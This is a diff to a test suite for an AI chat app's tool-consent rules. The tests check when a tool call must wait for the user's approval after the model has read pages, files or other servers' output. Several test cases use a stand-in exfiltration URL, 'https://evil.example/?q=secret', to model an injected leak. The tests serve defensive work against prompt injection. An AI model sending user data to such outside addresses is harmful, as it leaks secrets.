@@ -1,5 +1,6 @@
 // One call of a turn, by its row and what was agreed to: the whole table.
 import { expect, test } from 'vitest';
+import { nothingRead } from '../../shared/tools/asks-again.ts';
 import { shownDigest } from '../../shared/tools/consent.ts';
 import { functionTable } from '../../shared/tools/names.ts';
 import type { ToolSource } from '../../shared/tools/sources.ts';
@@ -29,7 +30,7 @@ const nothing: Situation = {
   sources: [source],
   tools: functionTable([source]),
   plugins: ['weather'],
-  tainted: new Set(),
+  read: nothingRead,
   consents: { chat: [], always: [] },
   agreed: () => false,
 };
@@ -103,6 +104,73 @@ test.each<[name: string, call: Partial<TurnCall>, situation: Partial<Situation>,
 ])('%s', (_name, call, situation, here, type) => {
   const step = callStep({ ...row, ...call }, { ...nothing, ...situation }, here);
   expect(step.type === 'result' ? `result ${step.result.outcome}` : step.type).toBe(type);
+});
+
+const served = (id: string, more: object = {}): ToolSource => ({
+  origin: 'mcp',
+  manifest: { identifier: `mcp-${id}`, api: [{ name: 'do', access: 'write', ...more }] },
+  mcp: { server: id, always: ['do'], reads: [], digests: { do: 'd' } },
+});
+const page: ToolSource = {
+  origin: 'bundled',
+  manifest: { identifier: 'web-page', api: [{ name: 'read', access: 'outside' }] },
+};
+const search: ToolSource = {
+  origin: 'bundled',
+  manifest: { identifier: 'web-search', api: [{ name: 'search', access: 'outside' }] },
+};
+const reader = served('reader');
+const claims: ToolSource = {
+  ...reader,
+  mcp: { server: 'reader', always: ['do'], reads: ['do'], digests: { do: 'd' } },
+};
+const allowed = ['web-page/outside', 'web-search/outside', consents.chat[0] ?? ''];
+const seen = (source: ToolSource, id: string, args: string, given: readonly string[] = allowed) => {
+  const tools = functionTable([source]);
+  const [name = ''] = tools.keys();
+  const read = {
+    sources: new Set(id === '' ? [] : [id]),
+    texts: ['Look at https://user.example/a?b=1, please.', '[more](https://others.example/c) and example.org.'],
+  };
+  const situation = { ...nothing, sources: [source], tools, plugins: [source.manifest.identifier], read };
+  return callStep({ ...row, name, arguments: args }, { ...situation, consents: { chat: given, always: given } }, false);
+};
+const to = (url: string): string => JSON.stringify({ url });
+
+test.each<[name: string, source: ToolSource, read: string, args: string, asks: boolean]>([
+  ['a server that writes, nothing read', served('notes'), '', '{}', false],
+  ['a server that writes, after another server', served('notes'), 'mcp-reader', '{}', true],
+  ['a server that writes, after a file of the user', served('notes'), 'attachments', '{}', true],
+  ['a server that writes, after its own words', served('notes'), 'mcp-notes', '{}', true],
+  ['one that reaches outside, after another', served('notes', { access: 'outside' }), 'mcp-reader', '{}', true],
+  ['one that only reads, by its operator’s word', served('notes', { access: 'read' }), 'mcp-reader', '{}', false],
+  ['one that says it only reads, after its own words', claims, 'mcp-reader', '{}', false],
+  ['one that says it only reads, after another', claims, 'mcp-notes', '{}', true],
+  ['and with an address of the model’s own', claims, 'mcp-reader', to('https://evil.example/?q=secret'), true],
+  ['an installed plugin, after a page', source, 'web-page', '{}', true],
+  ['an installed plugin, after its own words', source, 'weather', '{}', false],
+  ['a page at an address of the model’s own', page, 'mcp-reader', to('https://evil.example/?q=secret'), true],
+  ['and nothing was read', page, '', to('https://evil.example/?q=secret'), false],
+  ['a page that the user named', page, 'web-page', to('https://user.example/a?b=1'), false],
+  ['the beginning of its address', page, 'web-page', to('https://user.example/a'), true],
+  ['a page that another page names', page, 'web-page', to('https://others.example/c'), false],
+  ['a host that was named in passing', page, 'web-page', to('https://example.org/'), false],
+  ['a host below it', page, 'web-page', to('https://secret.example.org/'), true],
+  ['a search, by the provider of the user’s choice', search, 'web-page', '{"query":"secret"}', false],
+])('allowed always, and what was read: %s', (_name, tool, read, args, asks) => {
+  const outside = {
+    ...tool,
+    manifest: { ...tool.manifest, api: tool === source ? [{ name: 'go' }] : tool.manifest.api },
+  };
+  const given = [...allowed, 'weather/outside/https://plugins.example.com/m.json'];
+  expect(seen(outside, read, args, given)).toMatchObject(asks ? { type: 'wait', about: [read] } : { type: 'run' });
+});
+
+test('allowed in this chat after one source, it asks about another', () => {
+  const notes = served('notes');
+  const given = ['mcp-notes/do/d after mcp-reader'];
+  expect(seen(notes, 'mcp-reader', '{}', given).type).toBe('run');
+  expect(seen(notes, 'web-page', '{}', given)).toEqual({ type: 'wait', about: ['web-page'] });
 });
 
 test('it runs with the arguments as the user changed them', () => {
